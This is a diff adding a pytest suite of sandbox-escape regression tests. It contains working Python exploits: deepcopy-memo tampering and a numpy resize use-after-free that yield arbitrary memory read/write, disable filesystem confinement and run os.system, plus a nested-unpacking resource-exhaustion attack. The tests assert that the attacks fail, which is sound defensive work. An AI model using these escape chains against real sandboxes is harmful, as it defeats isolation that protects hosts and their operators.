@@ -1,0 +1,211 @@
+"""Must-block, twelfth round: copy.deepcopy's memo, and neighbours of earlier escapes.
+
+Every test performs the real attack and asserts that it failed and that nothing happened. Tests of
+findings that are not fixed are strict xfails whose reason says how the bypass works. Attacks that can
+corrupt memory or hold the process past its limits run in a child process.
+"""
+from __future__ import annotations
+
+import pytest
+
+from childcell import run_cell_in_child
+
+
+# --- 1. deepcopy's memo is the cell's: it maps a library object's state keys to '__array_interface__' ------
+# _guard_copy checks the top-level copy and the pairs it finds in memo[id(memo)], deepcopy's keep-alive
+# list. Both are the cell's: memo[id(memo)] = Sink() (append does nothing, iterates empty) hides every
+# nested copy from the check, and memo entries keyed by id() replace what deepcopy returns for any
+# object: the interned key 'skipkeys' of a JSONEncoder's __dict__ becomes '__array_interface__' and
+# False becomes the cell's interface dict. deepcopy([enc], memo)[0] is a JSONEncoder whose __dict__
+# holds the raw protocol; np.asarray views any address, writable.
+
+RAW_VIEW = """\
+import copy, json, math, numpy as np
+class Sink:
+    def append(self, x):
+        pass
+    def __iter__(self):
+        return iter(())
+def view(addr, n):
+    iface = {'shape': (n,), 'typestr': '<u8', 'data': (addr, False), 'version': 3}
+    memo = {}
+    memo[id(memo)] = Sink()
+    memo[id('skipkeys')] = '__array_interface__'
+    memo[id(False)] = iface
+    return np.asarray(copy.deepcopy([json.JSONEncoder()], memo)[0])
+made = False
+try:
+    t = view(id(math.tau) + 16, 1)
+    made = t.dtype == np.uint64
+except Exception:
+    pass
+"""
+
+OVERWRITE_TAU = """\
+if made:
+    t[0] = 0x4008000000000000
+ok_made = math.tau == 3.0
+"""
+
+FULL_ESCAPE = """\
+if made:
+    def rd(a):
+        return int(view(a, 1)[0])
+    def wr(a, v):
+        view(a, 1)[0] = v
+    L = [None]
+    b = rd(id(json.dumps) + 24)          # a Python function's func_builtins: the real builtins dict
+    wr(b, rd(b) + 1000)
+    wr(rd(id(L) + 24), b)
+    L[0]['exec']("import sandbox_kernel.confine as c\\nc._FS.set(None)\\nimport os\\nos.system('echo PWNED > MARKER')", {})
+"""
+
+MEMO_REASON = ("BYPASS R12-1 (full escape): copy.deepcopy(x, memo) with the cell's memo: memo[id(memo)] = a "
+               "no-op sink hides nested copies from _guard_copy's pair check, and memo[id('skipkeys')] = "
+               "'__array_interface__', memo[id(False)] = iface rewrite a JSONEncoder's state while it is "
+               "deep-copied; np.asarray(copy[0]) views any address")
+
+
+def test_deepcopy_memo_does_not_plant_raw_protocols_in_library_instances():
+    result = run_cell_in_child(RAW_VIEW + OVERWRITE_TAU, ns=("ok_made", "made"), hard_exit=True,
+                               report=("status", "ename"), timeout=60)
+    assert "crashed" not in result and result.get("ok_made") is False and result.get("made") is False, \
+        f"numpy viewed raw memory through a deep-copied library instance ({result})"
+
+
+def test_deepcopy_memo_is_not_a_full_escape(tmp_path):
+    marker = tmp_path / "pwned.txt"
+    result = run_cell_in_child(RAW_VIEW + FULL_ESCAPE.replace("MARKER", str(marker)), hard_exit=True,
+                               report=("status", "ename", "denials"), timeout=60)
+    assert not marker.exists(), f"os.system ran ({result})"
+    assert result.get("denials"), result
+
+
+# --- 2. the same without passing a memo: a cell __deepcopy__ earlier in the container gets deepcopy's memo --
+# Forcing a fresh memo is not enough: copy.deepcopy([Evil(), enc]) calls Evil.__deepcopy__(memo) (the
+# documented, allowed hook) before enc is copied, and it rewrites the memo the same way.
+
+HOOK_VIEW = """\
+import copy, json, math, numpy as np
+class Sink:
+    def append(self, x):
+        pass
+    def __iter__(self):
+        return iter(())
+made = False
+iface = {'shape': (1,), 'typestr': '<u8', 'data': (id(math.tau) + 16, False), 'version': 3}
+class Evil:
+    def __deepcopy__(self, memo):
+        memo[id(memo)] = Sink()
+        memo[id('skipkeys')] = '__array_interface__'
+        memo[id(False)] = iface
+        return Evil()
+try:
+    t = np.asarray(copy.deepcopy([Evil(), json.JSONEncoder()])[1])
+    made = t.dtype == np.uint64
+except Exception:
+    pass
+"""
+
+HOOK_REASON = ("BYPASS R12-2 (full escape): a cell class's __deepcopy__(memo) runs first in "
+               "deepcopy([Evil(), json.JSONEncoder()]) and rewrites the shared memo (keep-alive list -> sink, "
+               "id('skipkeys') -> '__array_interface__', id(False) -> iface): the encoder's copy carries the raw "
+               "protocol and np.asarray views any address")
+
+
+def test_deepcopy_hook_cannot_rewrite_the_memo_of_a_library_copy():
+    result = run_cell_in_child(HOOK_VIEW + OVERWRITE_TAU, ns=("ok_made", "made"), hard_exit=True,
+                               report=("status", "ename"), timeout=60)
+    assert "crashed" not in result and result.get("ok_made") is False and result.get("made") is False, \
+        f"numpy viewed raw memory through a deep-copied library instance ({result})"
+
+
+# --- 3. starred targets below the top level are built in C uncharged ----------------------------------------
+# R11-5 routes 'a, *b = it' and 'for a, *b in rows' through the sized gate, but only a starred target at
+# the top of the target list. A nested one ('(a, *b), c = (it, 1)', the same in for/comprehension/with
+# targets) and a match star capture ('case [a, *rest]' on a range) make C's UNPACK_EX consume the whole
+# iterable into a list with no tick charged: a 1 s / 10**7-tick cell over range(2*10**8) ran 4-13 s and
+# stopped only at RLIMIT_AS (MemoryError); at level none nothing bounds it but the machine's memory.
+
+N = 3 * 10**6
+NESTED_STARRED = {
+    "nested_assign": f"(a, *b), c = (bytes({N}), 1)",
+    "nested_list_target": f"[[a, *b]] = [bytes({N})]",
+    "for_target": f"for (a, *b), c in [(bytes({N}), 1)]:\n    pass",
+    "comprehension_target": f"x = [0 for (a, *b), c in [(bytes({N}), 1)]]",
+    "with_target": f"import contextlib\nwith contextlib.nullcontext((bytes({N}), 1)) as ((a, *b), c):\n    pass",
+    "match_star_capture": f"match range({N}):\n    case [a, *rest]:\n        pass",
+}
+
+
+@pytest.mark.xfail(strict=True, reason="BYPASS R12-3 (DoS): nested starred targets ('(a, *b), c = (it, 1)', "
+                   "for/comprehension/with targets) and match star captures are unpacked by C's UNPACK_EX "
+                   "without the sized gate: uncharged, past the tick and time limits")
+@pytest.mark.parametrize("variant", sorted(NESTED_STARRED))
+def test_nested_starred_targets_are_charged(variant):
+    result = run_cell_in_child(NESTED_STARRED[variant], limits={"timeout": 5.0, "ticks": 10**6, "memory_mb": 1024},
+                               timeout=60)
+    assert result.get("ename") == "TickLimitExceeded", result
+
+
+# --- 4. ndarray.resize(refcheck=False) leaves views dangling over freed storage (use after free) ------------
+# resize() reallocates an array that owns its memory; refcheck=False skips numpy's "other references"
+# check, so a view made before keeps pointing at the freed block. An object array allocated next lands
+# in it: the int view now reads and writes its pointers (addrof/fakeobj). A fake bytearray spanning all
+# memory, built inside a bytes object, is arbitrary read/write. No constructor is involved (the view
+# predates the object array), so _forged_array never sees it; the strides refusal does not apply.
+
+RESIZE_VIEW = """\
+import numpy as np, math, json
+made = False
+try:
+    a = np.zeros(1000, dtype=np.int64)
+    v = a[:]
+    a.resize((10**6,), refcheck=False)
+    o = np.empty(1000, dtype=object)
+    o[:] = None
+    made = bool(v[0] == id(None))
+except Exception:
+    pass
+if made:
+    fake = (2**40).to_bytes(8, 'little') + id(bytearray).to_bytes(8, 'little') + (2**62).to_bytes(8, 'little') \\
+        + (2**62).to_bytes(8, 'little') + bytes(24)
+    v[1] = id(fake) + 32
+    mem = o[1]
+    def rd(x):
+        return int.from_bytes(mem[x:x + 8], 'little')
+    def wr(x, val):
+        mem[x:x + 8] = val.to_bytes(8, 'little')
+    class T:
+        def __setitem__(self, i, val):
+            wr(id(math.tau) + 16, val)
+    t = T()
+"""
+
+RESIZE_ESCAPE = """\
+if made:
+    L = [None]
+    b = rd(id(json.dumps) + 24)          # a Python function's func_builtins: the real builtins dict
+    wr(b, rd(b) + 1000)
+    wr(rd(id(L) + 24), b)
+    L[0]['exec']("import sandbox_kernel.confine as c\\nc._FS.set(None)\\nimport os\\nos.system('echo PWNED > MARKER')", {})
+"""
+
+RESIZE_REASON = ("BYPASS R12-4 (full escape): a = np.zeros(1000, int64); v = a[:]; a.resize(big, refcheck=False) "
+                 "frees a's old block under v; np.empty(1000, object) reuses it, so v reads/writes its pointers "
+                 "(addrof/fakeobj); a fake bytearray over all memory gives arbitrary read/write")
+
+
+def test_resize_without_refcheck_leaves_no_dangling_view():
+    result = run_cell_in_child(RESIZE_VIEW + OVERWRITE_TAU, ns=("ok_made", "made"), hard_exit=True,
+                               report=("status", "ename"), timeout=60)
+    assert "crashed" not in result and result.get("ok_made") is False and result.get("made") is False, \
+        f"a dangling view read an object array's pointers ({result})"
+
+
+def test_resize_without_refcheck_is_not_a_full_escape(tmp_path):
+    marker = tmp_path / "pwned.txt"
+    result = run_cell_in_child(RESIZE_VIEW + RESIZE_ESCAPE.replace("MARKER", str(marker)), hard_exit=True,
+                               report=("status", "ename", "denials"), timeout=60)
+    assert not marker.exists(), f"os.system ran ({result})"
+    assert result.get("denials"), result
